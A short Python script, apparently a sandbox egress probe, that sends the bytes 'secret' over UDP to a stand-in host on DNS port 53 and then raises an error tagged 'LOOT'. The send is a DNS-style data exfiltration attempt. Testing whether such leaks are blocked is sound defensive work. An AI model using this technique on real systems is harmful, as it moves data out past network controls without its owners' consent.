# tries: to send a datagram out, as a query for a name would be
import socket

s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sent = s.sendto(b"secret", ("192.0.2.53", 53))
raise RuntimeError("LOOT: " + str(sent))
